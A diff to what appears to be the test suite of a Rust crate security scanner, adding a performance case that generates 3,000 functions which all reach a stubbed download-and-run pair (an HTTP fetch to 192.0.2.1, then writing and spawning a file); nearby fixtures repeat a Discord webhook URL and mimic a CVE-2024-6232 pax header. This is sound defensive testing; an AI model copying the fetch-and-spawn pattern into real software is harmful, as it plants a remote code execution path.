@@ -125,6 +125,31 @@ def _source(data: bytes) -> Callable[[Path], list[str]]:
     return _crate(files + end(), level=0)  # stored: the source itself is the test
 
 
+def _dense_call_graph(scratch: Path) -> list[str]:
+    """Three files of 1,000 functions, each calling 100 others and taking the steps of a
+    download-and-run, so that the call graph is built and every function reaches every
+    other: each search must stop early, not cover the graph once per function."""
+    functions = 3_000
+    files = member(b"x-1.0.0/Cargo.toml", MANIFEST)
+    for part in range(3):
+        body = [b"mod m1;\nmod m2;\n"] if part == 0 else []
+        if part == 0:
+            body.append(
+                b'pub fn fetch() { let _ = ureq::get("http://192.0.2.1/"); }\n'
+                b'pub fn run(p: &str) { let _ = std::fs::write(p, b""); '
+                b"let _ = std::process::Command::new(p).spawn(); }\n"
+            )
+        for i in range(part * 1_000, (part + 1) * 1_000):
+            calls = b" ".join(
+                b"f%d();" % ((i * 7_919 + k * 104_729) % functions) for k in range(100)
+            )
+            body.append(b'pub fn f%d() { %s fetch(); run("x"); }\n' % (i, calls))
+        name = b"x-1.0.0/src/lib.rs" if part == 0 else b"x-1.0.0/src/m%d.rs" % part
+        files += member(name, b"".join(body))
+    crate = write_crate(scratch / "x-1.0.0.crate", files + end())
+    return ["scan", str(crate)]
+
+
 _PAX_BLOWUP = member(b"pax", b"1" * 60_000, b"x")  # CVE-2024-6232's shape
 _PAX_RECORDS = pax({b"path": b"x-1.0.0/src/lib.rs", **{b"k%d" % i: b"v" for i in range(3000)}})
 _LITERALS = b'"https://discord.com/api/webhooks/1/x", ' * 100_000
@@ -173,6 +198,7 @@ SCAN = [
         _source(b"fn f() { let v = [" + _LITERALS[: 1 << 20] + b"]; }"),
         frozenset({0, 1}),
     ),
+    Case("scan: a dense call graph (3,000 functions)", _dense_call_graph, frozenset({0, 1})),
     Case(
         "diff: pax header in CVE-2024-6232's shape", _diff(_PAX_BLOWUP + end()), frozenset({0, 1})
     ),
